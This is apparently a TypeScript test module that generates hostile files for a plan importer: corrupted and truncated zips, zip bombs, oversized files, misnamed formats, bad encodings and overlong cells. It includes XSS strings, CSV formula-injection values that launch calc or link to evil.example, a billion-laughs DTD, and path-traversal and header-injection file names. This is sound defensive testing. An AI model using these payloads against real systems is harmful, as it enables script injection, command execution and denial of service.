/**
 * The hostile-input corpus: bad files made on the fly, deterministically (seeded PRNG), from
 * the Lovech fixture and from hand-written .xlsx parts. Nothing large is committed: the 50 MB
 * and million-row files are built when a test asks for them.
 *
 * Each file says what the importer must do with it: 'refused' (an ImportError), 'parsed'
 * (a plan, with warnings where due) or 'either' (random damage may land where nothing is read,
 * such as a timestamp; then a plan or an ImportError are both right). Never anything else.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { createDeflateRaw } from 'node:zlib';
import ExcelJS from 'exceljs';
import {
  book,
  cellXml,
  DATE_STYLES,
  PLAN_HEADER,
  planCsv,
  planRows,
  planXlsx,
  rowsXml,
  rowXml,
  sharedStringsXml,
  sheetXml,
  workbookXml,
  type Cell,
} from './xlsx-builder';
import { zip, type ZipEntryInput } from './zip-writer';

export type Expectation = 'refused' | 'parsed' | 'either';

export interface HostileFile {
  /** Unique and stable: "category/what". */
  id: string;
  category: string;
  fileName: string;
  expect: Expectation;
  /** For refusals: what the message must say (after "<file name>: "). */
  message?: RegExp;
  /** Texts the parsed plan must hold exactly as written (script, HTML, formulas). */
  verbatim?: string[];
  /** Generated on demand; big ones take a moment. */
  bytes(): Uint8Array | Promise<Uint8Array>;
  large?: boolean;
}

const FIXTURES = new URL('../fixtures/', import.meta.url);
export const lovechXlsx = (): Uint8Array => new Uint8Array(fs.readFileSync(new URL('lovech-2022-2024.xlsx', FIXTURES)));
export const lovechCsv = (): Uint8Array => new Uint8Array(fs.readFileSync(new URL('lovech-2022-2024.csv', FIXTURES)));
const utf8 = (text: string) => new TextEncoder().encode(text);

/** mulberry32: small, fast, deterministic. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function randomBytes(random: () => number, length: number): Uint8Array {
  const bytes = new Uint8Array(length);
  for (let i = 0; i < length; i++) bytes[i] = Math.floor(random() * 256);
  return bytes;
}

/** Where things are in a zip archive, from its central directory. */
interface ZipLayout {
  entries: { name: string; local: number; localEnd: number; dataStart: number; dataEnd: number; central: number; centralEnd: number; method: number }[];
  end: number;
}

function zipLayout(bytes: Uint8Array): ZipLayout {
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  let end = bytes.length - 22;
  while (view.getUint32(end, true) !== 0x06054b50) end--;
  const count = view.getUint16(end + 10, true);
  let at = view.getUint32(end + 16, true);
  const entries: ZipLayout['entries'] = [];
  for (let i = 0; i < count; i++) {
    const nameLength = view.getUint16(at + 28, true);
    const centralEnd = at + 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
    const local = view.getUint32(at + 42, true);
    const localEnd = local + 30 + view.getUint16(local + 26, true);
    const dataStart = localEnd + view.getUint16(local + 28, true);
    entries.push({
      name: new TextDecoder().decode(bytes.subarray(at + 46, at + 46 + nameLength)),
      local,
      localEnd,
      dataStart,
      dataEnd: dataStart + view.getUint32(at + 20, true),
      central: at,
      centralEnd,
      method: view.getUint16(at + 10, true),
    });
    at = centralEnd;
  }
  return { entries, end };
}

function flipped(bytes: Uint8Array, offset: number, mask: number): Uint8Array {
  const copy = bytes.slice();
  copy[offset]! ^= mask;
  return copy;
}

/** Sets a 32-bit field of the central directory entry for `name`. */
function setCentral(bytes: Uint8Array, name: string, field: number, value: number): Uint8Array {
  const copy = bytes.slice();
  const entry = zipLayout(copy).entries.find((e) => e.name === name)!;
  new DataView(copy.buffer).setUint32(entry.central + field, value, true);
  return copy;
}

/** A raw deflate stream of `size` zero bytes, made in 1 MB steps (never holding the whole). */
export async function deflatedZeros(size: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const block = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < size; written += block.length) {
    const part = block.subarray(0, Math.min(block.length, size - written));
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(chunks);
}

/** A zip with one prebuilt deflated entry (declared sizes given), after the parts of a workbook (or the given ones). */
export function zipWithRawEntry(
  name: string,
  compressed: Uint8Array,
  crc: number,
  declaredSize: number,
  before: ZipEntryInput[] = [
    { name: '[Content_Types].xml', data: '<Types/>' },
    { name: 'xl/workbook.xml', data: workbookXml(['План']) },
  ],
): Uint8Array {
  const base = zip(before);
  const layout = zipLayout(base);
  const locals = base.subarray(0, layout.entries.at(-1)!.dataEnd);
  const centrals = base.subarray(layout.entries[0]!.central, layout.end);
  const nameBytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(declaredSize, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(declaredSize, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  central.writeUInt32LE(locals.length, 42);
  const directory = Buffer.concat([centrals, central, nameBytes]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(layout.entries.length + 1, 8);
  end.writeUInt16LE(layout.entries.length + 1, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(locals.length + local.length + nameBytes.length + compressed.length, 16);
  return new Uint8Array(Buffer.concat([locals, local, nameBytes, compressed, directory, end]));
}

/** A plan table whose activity rows carry the given cells (one row per value) in `column`. */
function planWith(column: 'activity' | 'start' | 'end' | 'target' | 'owners' | 'note', values: Cell[]): Cell[][] {
  const index = { activity: 1, start: 2, end: 3, target: 4, owners: 5, note: 6 }[column];
  return [
    ...planRows().slice(0, 3),
    ...values.map((value, i) => {
      const row: Cell[] = ['1.1. Мярка', `1.1.${i + 1}. Дейност ${i + 1}`, '01.03.2023', '30.06.2023', 'Цел', 'Отговорник', null];
      row[index] = value;
      return row;
    }),
  ];
}

/** Rows as CSV text with ';' (strings only). */
function csv(rows: Cell[][]): Uint8Array {
  return utf8(planCsv(rows.map((cells) => cells.map((cell) => (cell === null ? null : String(cell))))));
}

export const MB = 1024 * 1024;

/** Big files are the same on every call, and costly: made once per process. */
export function once(make: () => Uint8Array | Promise<Uint8Array>): () => Promise<Uint8Array> {
  let made: Promise<Uint8Array> | null = null;
  return () => (made ??= Promise.resolve(make()));
}

/** 50 MB of ';'-separated plan rows: a header, then rows until the size is reached. */
const fiftyMegabyteCsv = once(() => {
  const head = planCsv();
  const line = '1.1. Мярка;1.1.9. Дейност с дълго име за запълване на реда;01.03.2023;30.06.2023;Цел;Отговорник;бележка\r\n';
  const lineBytes = Buffer.byteLength(line);
  const count = Math.ceil((50 * MB - Buffer.byteLength(head)) / lineBytes);
  return new Uint8Array(Buffer.concat([Buffer.from(head), Buffer.from(line.repeat(count))]).subarray(0, 50 * MB));
});

/** 50 MB .xlsx with its sheet stored uncompressed: rows of a real plan table. */
const fiftyMegabyteXlsx = once(() => {
  const rows: string[] = [rowsXml(planRows())];
  let size = 0;
  for (let r = 6; size < 50 * MB; r++) {
    const row = rowXml(r, ['1.1. Мярка', `1.1.${r}. Дейност ${r}`, '01.03.2023', '30.06.2023', 'Цел', 'Отговорник']);
    rows.push(row);
    size += row.length;
  }
  return book([sheetXml(rows.join(''))], { deflate: false });
});

/** A million rows written by exceljs's streaming WorkbookWriter (to a temp file, read back). */
const millionRowsExceljs = once(async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
  const file = path.join(dir, 'million.xlsx');
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: file, useSharedStrings: false, useStyles: false });
  const sheet = workbook.addWorksheet('План');
  sheet.addRow(PLAN_HEADER).commit();
  for (let i = 1; i <= 1_000_000; i++) sheet.addRow(i % 1000 === 1 ? ['1.1. Мярка', `1.1.${i}. Дейност`] : [i]).commit();
  await workbook.commit();
  const bytes = new Uint8Array(fs.readFileSync(file));
  fs.rmSync(dir, { recursive: true, force: true });
  return bytes;
});

const millionEmptyRows = once(() => {
  const rows: string[] = [rowXml(1, PLAN_HEADER), rowXml(2, ['1.1. Мярка', '1.1.1. Дейност'])];
  for (let r = 3; r <= 1_000_002; r++) rows.push(`<row r="${r}"/>`);
  return book([sheetXml(rows.join(''))]);
});

const millionLineCsv = once(() => {
  const lines = [planCsv()];
  for (let i = 0; i < 1_000_000; i++) lines.push(i % 1000 === 0 ? `1.1. Мярка;1.1.${i + 3}. Дейност;;;;;\n` : ';;;;;;\n');
  return utf8(lines.join(''));
});

export const SCRIPTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(document.cookie)>',
  "javascript:alert('x')",
  '</td></tr></table><h1>big</h1>',
  '{{constructor.constructor("alert(1)")()}}',
  '${process.exit(1)}',
];

export const FORMULAS = ["=cmd|' /C calc'!A0", '@SUM(1+1)', '+1', '-1', '=HYPERLINK("http://evil.example","click")', '=1+1'];

const DTD_LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
  ']>';

/** Every hostile file, in a fixed order. */
/** One 32,000-character shared string used by `cells` rows of a plan (in its note column): what crashed the preview at 21,000. */
export function longStringWorkbook(cells: number): Uint8Array {
  const rows = Array.from({ length: cells }, (_, i): Cell[] => [{ raw: '<c r="$REF" t="s"><v>1</v></c>' }, `1.1.${i + 1}. Д`, null, null, null, null, { raw: '<c r="$REF" t="s"><v>0</v></c>' }]);
  return planXlsx([...planRows().slice(0, 3), ...rows], { sharedStrings: sharedStringsXml(['Дълга бележка. '.repeat(2200).slice(0, 32_000), '1.1. Мярка']) });
}

export function hostileFiles(): HostileFile[] {
  const files: HostileFile[] = [];
  const add = (file: HostileFile) => files.push(file);
  const lovech = lovechXlsx();
  const layout = zipLayout(lovech);
  const deflated = layout.entries.filter((e) => e.method === 8 && e.dataEnd - e.dataStart > 4);

  // Truncated: cut at 45 offsets, from the first bytes to one byte short.
  const cutRandom = prng(1);
  const cuts = new Set([1, 2, 3, 4, 10, 29, 30, 31, 100, lovech.length - 1, lovech.length - 2, lovech.length - 21, lovech.length - 22, lovech.length - 23]);
  for (const e of layout.entries) cuts.add(e.dataStart + 1).add(e.central);
  while (cuts.size < 45) cuts.add(5 + Math.floor(cutRandom() * (lovech.length - 10)));
  for (const cut of [...cuts].sort((a, b) => a - b)) {
    add({
      id: `truncated/at-${cut}`,
      category: 'truncated zip',
      fileName: 'plan.xlsx',
      expect: 'refused',
      message: /damaged or truncated|not an Excel \.xlsx file/,
      bytes: () => lovech.subarray(0, cut),
    });
  }

  // A flipped byte in each local header (and a second one in the larger entries).
  const flipRandom = prng(2);
  for (const [i, e] of [...layout.entries, ...deflated].entries()) {
    const offset = e.local + Math.floor(flipRandom() * (e.localEnd - e.local));
    const mask = 1 + Math.floor(flipRandom() * 255);
    add({ id: `flip-local/${i}-${e.name}@${offset}`, category: 'flipped byte, local header', fileName: 'plan.xlsx', expect: 'either', bytes: () => flipped(lovech, offset, mask) });
  }
  // A flipped byte in each central directory entry, and in the end record.
  for (const [i, e] of [...layout.entries, ...deflated].entries()) {
    const offset = e.central + Math.floor(flipRandom() * (e.centralEnd - e.central));
    const mask = 1 + Math.floor(flipRandom() * 255);
    add({ id: `flip-central/${i}-${e.name}@${offset}`, category: 'flipped byte, central directory', fileName: 'plan.xlsx', expect: 'either', bytes: () => flipped(lovech, offset, mask) });
  }
  for (let field = 0; field < 22; field += 2) {
    const offset = layout.end + field;
    add({ id: `flip-central/end-record+${field}`, category: 'flipped byte, central directory', fileName: 'plan.xlsx', expect: 'either', bytes: () => flipped(lovech, offset, 0xff) });
  }
  // Flipped bytes inside compressed data (not its last byte, whose padding bits may be unused).
  for (const [i, e] of [...deflated, ...deflated].entries()) {
    const offset = e.dataStart + Math.floor(flipRandom() * (e.dataEnd - e.dataStart - 2));
    const mask = 1 << Math.floor(flipRandom() * 8);
    add({
      id: `flip-data/${i}-${e.name}@${offset}`,
      category: 'flipped byte, compressed data',
      fileName: 'plan.xlsx',
      expect: 'refused',
      message: /the file is damaged/,
      bytes: () => flipped(lovech, offset, mask),
    });
  }
  for (const [i, e] of deflated.slice(0, 6).entries()) {
    add({
      id: `flip-data/scrambled-${i}-${e.name}`,
      category: 'flipped byte, compressed data',
      fileName: 'plan.xlsx',
      expect: 'refused',
      message: /the file is damaged/,
      bytes: () => {
        const copy = lovech.slice();
        copy.set(randomBytes(prng(100 + i), e.dataEnd - e.dataStart - 1), e.dataStart);
        return copy;
      },
    });
  }

  // Random bytes: as .xlsx, as a zip-looking .xlsx, as .csv and .txt.
  const sizes = prng(3);
  for (let i = 0; i < 40; i++) {
    const length = 1 + Math.floor(sizes() * 64 * 1024);
    const kind = i < 15 ? 'xlsx' : i < 25 ? 'zip' : i < 35 ? 'csv' : 'txt';
    add({
      id: `random/${kind}-${i}-${length}`,
      category: 'random bytes',
      fileName: kind === 'zip' ? 'plan.xlsx' : `plan.${kind}`,
      expect: 'refused',
      bytes: () => {
        const bytes = randomBytes(prng(1000 + i), length);
        if (kind === 'zip') bytes.set([0x50, 0x4b, 0x03, 0x04]);
        return bytes;
      },
    });
  }

  // Zip bombs and zips that lie.
  add({
    id: 'zip-bomb/declared-4gb',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /zip bomb/,
    bytes: () => setCentral(lovech, 'xl/worksheets/sheet1.xml', 24, 0xffffffff),
  });
  add({
    id: 'zip-bomb/real-300mb-of-zeros',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /zip bomb/,
    bytes: once(async () => zipWithRawEntry('xl/worksheets/sheet1.xml', await deflatedZeros(300 * MB), 0, 300 * MB)),
  });
  add({
    id: 'zip-bomb/real-150mb-ratio',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /zip bomb/,
    bytes: once(async () => zipWithRawEntry('xl/worksheets/sheet1.xml', await deflatedZeros(150 * MB), 0, 150 * MB)),
  });
  add({
    id: 'zip-bomb/declares-100kb-unpacks-to-100mb',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /damaged/,
    bytes: once(async () => zipWithRawEntry('xl/worksheets/sheet1.xml', await deflatedZeros(100 * MB), 0, 100 * 1024)),
  });
  add({
    id: 'zip-bomb/entry-hidden-from-directory',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /damaged/,
    bytes: () => {
      // exceljs reads local headers in order: a sheet the directory does not list would be read unchecked.
      const hidden = zip([{ name: 'xl/worksheets/sheet1.xml', data: sheetXml(rowsXml([PLAN_HEADER, ['1.1. М', '1.1.1. SMUGGLED']])) }]);
      const hiddenLocal = hidden.subarray(0, zipLayout(hidden).entries[0]!.dataEnd);
      const copy = new Uint8Array(hiddenLocal.length + lovech.length);
      copy.set(hiddenLocal);
      copy.set(lovech, hiddenLocal.length);
      // shift every offset the directory gives by the inserted bytes: first the directory's own
      const view = new DataView(copy.buffer);
      const end = hiddenLocal.length + layout.end;
      view.setUint32(end + 16, view.getUint32(end + 16, true) + hiddenLocal.length, true);
      for (const e of layout.entries) {
        const central = hiddenLocal.length + e.central;
        view.setUint32(central + 42, view.getUint32(central + 42, true) + hiddenLocal.length, true);
      }
      return copy;
    },
  });
  add({
    id: 'zip-bomb/nested-zip-inside',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /no xl\/workbook\.xml/,
    bytes: () => zip([{ name: 'plan.xlsx', data: lovech, deflate: false }]),
  });
  add({
    id: 'zip-bomb/many-entries',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'either',
    bytes: () => planXlsx(planRows(), { extra: Array.from({ length: 20_000 }, (_, i) => ({ name: `junk/${i}.bin`, data: '', deflate: false })) }),
  });
  add({
    id: 'zip-bomb/encrypted-entry',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /damaged/,
    bytes: () => {
      const copy = lovech.slice();
      const e = zipLayout(copy).entries.find((x) => x.name === 'xl/worksheets/sheet1.xml')!;
      const view = new DataView(copy.buffer);
      view.setUint16(e.central + 8, view.getUint16(e.central + 8, true) | 1, true);
      view.setUint16(e.local + 6, view.getUint16(e.local + 6, true) | 1, true);
      return copy;
    },
  });
  add({
    id: 'zip-bomb/unknown-compression',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /damaged/,
    bytes: () => {
      const copy = lovech.slice();
      const e = zipLayout(copy).entries.find((x) => x.name === 'xl/worksheets/sheet1.xml')!;
      const view = new DataView(copy.buffer);
      view.setUint16(e.central + 10, 14, true); // LZMA
      view.setUint16(e.local + 8, 14, true);
      return copy;
    },
  });
  add({
    id: 'zip-bomb/duplicate-sheet-entries',
    category: 'zip bomb',
    fileName: 'plan.xlsx',
    expect: 'either',
    bytes: () => planXlsx(planRows(), { extra: [{ name: 'xl/worksheets/sheet1.xml', data: sheetXml(rowsXml([['second copy']])) }] }),
  });

  // Large files.
  add({
    id: 'large/50mb-csv',
    category: '50 MB file',
    fileName: 'plan.csv',
    expect: 'refused',
    message: /more than 100,000 rows/,
    large: true,
    bytes: fiftyMegabyteCsv,
  });
  add({
    id: 'large/50mb-xlsx-stored',
    category: '50 MB file',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /would unpack to 52 MB \(limit 50 MB\)/,
    large: true,
    bytes: fiftyMegabyteXlsx,
  });
  add({
    id: 'large/50mb-random',
    category: '50 MB file',
    fileName: 'plan.xlsx',
    expect: 'refused',
    message: /not an Excel \.xlsx file/,
    large: true,
    bytes: once(() => randomBytes(prng(50), 50 * MB)),
  });

  // A million rows.
  add({ id: 'million-rows/exceljs-writer', category: 'a million rows', fileName: 'plan.xlsx', expect: 'refused', message: /would unpack to 85 MB \(limit 50 MB\)/, large: true, bytes: millionRowsExceljs });
  add({ id: 'million-rows/empty-rows', category: 'a million rows', fileName: 'plan.xlsx', expect: 'refused', message: /more than 100,000 rows/, large: true, bytes: millionEmptyRows });
  add({ id: 'million-rows/csv-lines', category: 'a million rows', fileName: 'plan.csv', expect: 'refused', message: /more than 100,000 rows/, large: true, bytes: millionLineCsv });
  add({
    id: 'million-rows/100000-exactly',
    category: 'a million rows',
    fileName: 'plan.csv',
    expect: 'parsed',
    bytes: () => utf8(planCsv() + ';;;;;;\n'.repeat(100_000 - planRows().length)),
  });

  // Wrong extensions.
  const csvText = lovechCsv();
  const wrong: [string, string, () => Uint8Array, Expectation, RegExp?][] = [
    ['xlsx-named-csv', 'plan.csv', () => lovech, 'refused', /it is an Excel \.xlsx workbook/],
    ['xlsx-named-txt', 'plan.txt', () => lovech, 'refused', /it is an Excel \.xlsx workbook/],
    ['xlsx-named-tsv', 'plan.tsv', () => lovech, 'refused', /it is an Excel \.xlsx workbook/],
    ['csv-named-xlsx', 'plan.xlsx', () => csvText, 'refused', /it is a text file; if it is CSV, name it \.csv/],
    ['csv-named-xlsm', 'plan.xlsm', () => csvText, 'refused', /it is a text file/],
    ['xlsx-named-xls', 'plan.xls', () => lovech, 'refused', /the old Excel 97-2003 format \(\.xls\) is not read; save it as \.xlsx/],
    ['ole2-named-xls', 'plan.xls', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'refused', /old Excel 97-2003 format/],
    ['ole2-named-doc', 'plan.doc', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'refused', /old Word 97-2003 format \(\.doc\) is not read; save it as \.docx/],
    ['ole2-named-docx', 'plan.docx', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'refused', /old \.doc file or a password-protected document/],
    ['rtf-named-docx', 'plan.docx', () => utf8('{\\rtf1\\ansi\\deff0 {\\fonttbl} ПЛАН}'), 'refused', /it is an RTF document; save it as \.docx/],
    ['html-named-doc', 'plan.doc', () => utf8('<html><body><table><tr><td>Мярка</td></tr></table></body></html>'), 'refused', /old Word 97-2003 format/],
    ['html-named-docx', 'plan.docx', () => utf8('<html><body><table><tr><td>Мярка</td></tr></table></body></html>'), 'refused', /it is a web page \(HTML\)/],
    ['xlsx-named-docx', 'plan.docx', () => lovech, 'parsed'],
    ['ole2-named-xlsx', 'plan.xlsx', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'refused', /old \.xls file/],
    ['ole2-named-csv', 'plan.csv', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'refused', /old \.xls workbook/],
    ['pdf-named-pdf', 'plan.pdf', () => utf8('%PDF-1.7\n1 0 obj\n'), 'refused', /unsupported file type "\.pdf"/],
    ['pdf-named-xlsx', 'plan.xlsx', () => utf8('%PDF-1.7\n1 0 obj\n'), 'refused', /it is a PDF document/],
    ['pdf-named-csv', 'plan.csv', () => utf8('%PDF-1.7\n1 0 obj\n'), 'refused', /it is a PDF document/],
    ['xlsx-no-extension', 'plan', () => lovech, 'refused', /no extension/],
    ['csv-no-extension', 'README', () => csvText, 'refused', /no extension/],
    ['dot-only', '.', () => csvText, 'refused', /unsupported file type/],
    ['double-extension', 'plan.xlsx.exe', () => lovech, 'refused', /unsupported file type "\.exe"/],
    ['upper-case', 'PLAN.XLSX', () => lovech, 'parsed'],
    ['path-traversal-name', '../../../etc/passwd.xlsx', () => lovech, 'parsed'],
    ['name-with-newline', 'plan\nInjected: header.csv', () => utf8('x'), 'refused', /^plan\?Injected: header\.csv: /],
    ['very-long-name', `${'я'.repeat(5000)}.csv`, () => utf8('x'), 'refused', /…я+\.csv: /],
    ['name-with-html', '<img src=x onerror=alert(1)>.xlsx', () => utf8('%PDF-'), 'refused', /^<img src=x onerror=alert\(1\)>\.xlsx: /],
  ];
  for (const [name, fileName, bytes, expect, message] of wrong) {
    add({ id: `extension/${name}`, category: 'wrong extension', fileName, expect, message, bytes });
  }

  // Encodings, BOMs, NULs.
  const plan = planCsv();
  const encodings: [string, string, () => Uint8Array, Expectation, RegExp?][] = [
    ['bom-only', 'plan.csv', () => Uint8Array.from([0xef, 0xbb, 0xbf]), 'refused', /holds no text/],
    ['utf16-bom-only', 'plan.csv', () => Uint8Array.from([0xff, 0xfe]), 'refused', /holds no text/],
    ['whitespace-only', 'plan.csv', () => utf8(' \r\n\t\n'.repeat(1000)), 'refused', /holds no text/],
    ['bom-then-plan', 'plan.csv', () => new Uint8Array([0xef, 0xbb, 0xbf, ...utf8(plan)]), 'parsed'],
    ['utf16le-plan', 'plan.csv', () => new Uint8Array([0xff, 0xfe, ...Buffer.from(plan, 'utf16le')]), 'parsed'],
    ['utf16le-odd-length', 'plan.csv', () => new Uint8Array([0xff, 0xfe, ...Buffer.from(plan, 'utf16le'), 0x41]), 'parsed'],
    ['utf16le-without-bom', 'plan.csv', () => new Uint8Array(Buffer.from(plan, 'utf16le')), 'refused', /NUL characters/],
    // UTF-8 with a few bytes that are not: read as UTF-8 (those bytes as U+FFFD, with a warning), never as Windows-1251.
    ['invalid-utf8-header', 'plan.csv', () => new Uint8Array([0xc3, 0x28, 0xa0, 0xa1, ...utf8(plan), 0xff, 0xfe, 0xfd]), 'parsed'],
    ['overlong-utf8', 'plan.csv', () => new Uint8Array([...utf8(plan), 0xc0, 0xaf, 0xe0, 0x80, 0xaf]), 'parsed'],
    ['lone-surrogate-utf8', 'plan.csv', () => new Uint8Array([...utf8(plan), 0xed, 0xa0, 0x80]), 'parsed'],
    ['invalid-utf8-latin-header', 'plan.csv', () => new Uint8Array([...utf8('Measure;Activity;Start;End\n1.1. M;1.1.1. A\xff;2023;2024\n'), 0xff]), 'parsed'],
    ['windows-1251', 'plan.csv', () => new Uint8Array(Buffer.from(planCsv(), 'latin1')), 'either'],
    ['nul-in-cell', 'plan.csv', () => utf8(plan.replace('Първа дейност', 'Първа\0дейност')), 'refused', /NUL characters/],
    ['nul-bytes-only', 'plan.csv', () => new Uint8Array(4096), 'refused', /NUL characters/],
    ['nul-in-xlsx-xml', 'plan.xlsx', () => planXlsx([PLAN_HEADER, ['1.1. М', { raw: '<c r="$REF" t="inlineStr"><is><t>a&#0;b</t></is></c>' }]]), 'refused', /could not be read/],
    ['raw-nul-in-xlsx-xml', 'plan.xlsx', () => book([sheetXml(rowsXml([PLAN_HEADER]) + '<row r="2"><c r="A2" t="inlineStr"><is><t>a\0b</t></is></c></row>')]), 'refused', /could not be read/],
    ['invalid-utf8-in-shared-strings', 'plan.xlsx', () => {
      const shared = Buffer.from(sharedStringsXml(['1.1.1. Дейност XX']));
      const at = shared.indexOf('XX');
      shared[at] = 0xff;
      shared[at + 1] = 0xc3;
      const sheet = sheetXml(rowsXml([PLAN_HEADER, ['1.1. М', { raw: '<c r="$REF" t="s"><v>0</v></c>' }]]));
      return book([sheet], { extra: [{ name: 'xl/sharedStrings.xml', data: new Uint8Array(shared) }] });
    }, 'parsed'],
    ['invalid-utf8-in-sheet', 'plan.xlsx', () => {
      const sheet = Buffer.from(sheetXml(rowsXml(planWith('note', ['XX']))));
      sheet[sheet.indexOf('XX')] = 0xc0;
      return book([sheet]);
    }, 'parsed'],
    ['utf16-declared-xml', 'plan.xlsx', () => book([sheetXml(rowsXml(planRows())).replace('encoding="UTF-8"', 'encoding="UTF-16"')]), 'either'],
  ];
  for (const [name, fileName, bytes, expect, message] of encodings) {
    add({ id: `encoding/${name}`, category: 'encoding, BOM, NUL', fileName, expect, message, bytes });
  }

  // Long cells.
  const megabyte = randomText(prng(9), MB);
  add({ id: 'long-cell/1mb-title-csv', category: 'extremely long cell', fileName: 'plan.csv', expect: 'refused', message: /cell B4 of sheet "plan.csv" holds 1,048,583 characters/, bytes: () => csv(planWith('activity', [`1.1.1. ${megabyte}`])) });
  add({ id: 'long-cell/1mb-title-xlsx', category: 'extremely long cell', fileName: 'plan.xlsx', expect: 'refused', message: /cell B4 of sheet "План" holds/, bytes: () => planXlsx(planWith('activity', [`1.1.1. ${megabyte}`])) });
  add({ id: 'long-cell/1mb-shared-string', category: 'extremely long cell', fileName: 'plan.xlsx', expect: 'refused', message: /holds 1,048,576 characters/, bytes: () => book([sheetXml(rowsXml([PLAN_HEADER, ['1.1. М', { raw: '<c r="$REF" t="s"><v>0</v></c>' }]]))], { sharedStrings: sharedStringsXml([megabyte]) }) });
  add({ id: 'long-cell/1mb-unused-shared-string', category: 'extremely long cell', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx(planRows(), { sharedStrings: sharedStringsXml([megabyte]) }) });
  add({ id: 'long-cell/1mb-in-ignored-column', category: 'extremely long cell', fileName: 'plan.csv', expect: 'refused', message: /characters/, bytes: () => csv([...planRows(), [null, null, null, null, null, null, null, megabyte]]) });
  add({ id: 'long-cell/32767-exactly', category: 'extremely long cell', fileName: 'plan.csv', expect: 'parsed', bytes: () => csv(planWith('note', ['я'.repeat(32_767)])) });
  add({ id: 'long-cell/unterminated-quote-10mb', category: 'extremely long cell', fileName: 'plan.csv', expect: 'refused', message: /characters/, bytes: () => utf8(`${plan}"${'a;b\n'.repeat(2_500_000)}`) });
  add({ id: 'long-cell/1mb-header-cell', category: 'extremely long cell', fileName: 'plan.xlsx', expect: 'refused', message: /characters/, bytes: () => planXlsx([[...PLAN_HEADER, megabyte]]) });
  add({ id: 'long-cell/1mb-sheet-name', category: 'extremely long cell', fileName: 'plan.xlsx', expect: 'either', bytes: () => planXlsx(planRows(), { sheetNames: [megabyte] }) });

  // Thousands of columns.
  const wide = (width: number) => Array.from({ length: width }, (_, i) => `Колона ${i}`);
  add({ id: 'columns/5000-columns', category: 'thousands of columns', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx([[...PLAN_HEADER, ...wide(5000)], ...Array.from({ length: 50 }, (_, r) => ['1.1. М', `1.1.${r + 1}. Д`, null, null, null, null, null, ...wide(5000)])]) });
  add({ id: 'columns/16384-columns-header', category: 'thousands of columns', fileName: 'plan.xlsx', expect: 'parsed', bytes: () => planXlsx([[...PLAN_HEADER, ...wide(16_384 - PLAN_HEADER.length)], ['1.1. М', '1.1.1. Д']]) });
  add({ id: 'columns/column-xfd-on-every-row', category: 'thousands of columns', fileName: 'plan.xlsx', expect: 'refused', message: /more than 3,000,000 cells/, bytes: () => book([sheetXml(rowXml(1, PLAN_HEADER) + Array.from({ length: 20_000 }, (_, r) => `<row r="${r + 2}">${cellXml(`XFD${r + 2}`, 'x')}</row>`).join(''))]) });
  add({ id: 'columns/beyond-xfd', category: 'thousands of columns', fileName: 'plan.xlsx', expect: 'refused', message: /could not be read/, bytes: () => book([sheetXml(rowXml(1, PLAN_HEADER) + `<row r="2">${cellXml('ZZZZZZZ2', 'x')}</row>`)]) });
